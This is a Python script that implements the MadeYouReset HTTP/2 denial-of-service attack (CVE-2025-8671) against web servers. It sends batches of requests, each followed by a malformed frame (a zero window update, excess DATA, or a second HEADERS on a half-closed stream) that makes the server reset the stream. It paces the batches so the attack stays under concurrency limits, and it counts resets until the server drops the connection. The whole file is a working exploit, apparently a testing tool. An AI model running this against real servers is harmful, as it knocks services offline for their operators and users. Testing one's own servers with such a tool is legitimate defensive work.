#!/usr/bin/python3
"""MadeYouReset (CVE-2025-8671): valid requests each followed by a frame that makes the server reset the stream
itself: a WINDOW_UPDATE of 0 (window0), DATA beyond the declared content-length (data), or a second HEADERS on a
stream the client already half-closed (halfclosed); mixed cycles the three. Each batch waits for the server's
answers to the one before, so the streams stay under max_concurrent_streams. Counts the server's RST_STREAMs and
waits for it to end the connection."""
import struct
import time

from h2wire import Conn, DataFrame, common_args

p = common_args(__doc__)
p.add_argument("--mode", choices=["window0", "data", "halfclosed", "mixed"], default="mixed")
p.add_argument("--path", default="/big.bin", help="the request each stream starts (work the server would do)")
p.add_argument("--post-path", default="/upload.cgi", help="the target of the data mode's POSTs (one that reads a body)")
p.add_argument("--count", type=int, default=20000, help="streams at most")
p.add_argument("--batch", type=int, default=50)
a = p.parse_args()
c = Conn(a)
c.wait(lambda: c.server_settings, 2)
modes = ["window0", "data", "halfclosed"] if a.mode == "mixed" else [a.mode]


def window_update_zero(sid):
    return struct.pack(">I", 4)[1:] + bytes([8, 0]) + struct.pack(">I", sid) + struct.pack(">I", 0)


def stream_frames(i):
    mode = modes[i % len(modes)]
    sid = c.new_stream_id()
    if mode == "window0":
        return c.headers_frame(sid, a.path).serialize() + window_update_zero(sid)
    if mode == "data":
        h = c.headers_frame(sid, a.post_path, "POST", end_stream=False, extra=[("content-length", "1")])
        d = DataFrame(sid, data=b"xx")
        d.flags.add("END_STREAM")
        return h.serialize() + d.serialize()
    # halfclosed: END_STREAM on the first HEADERS, then a second HEADERS with END_STREAM (not trailers).
    return c.headers_frame(sid, a.path).serialize() + c.headers_frame(sid, a.path).serialize()


sent = 0
deadline = time.monotonic() + min(a.seconds, 10)
while sent < a.count and not c.ended() and time.monotonic() < deadline:
    data = b"".join(stream_frames(sent + i) for i in range(a.batch))
    if not c.send_raw(data):
        break
    sent += a.batch
    # Paced: the next batch goes once the server has reset (or answered) this one, so the attack stays under
    # max_concurrent_streams and only a count of resets can stop it.
    c.wait(lambda: sum(1 for s in c.streams.values() if s.reset is not None or s.status is not None) >= sent, 1.0)
c.wait(c.ended, 2)
c.report(streams_sent=sent, mode=a.mode)
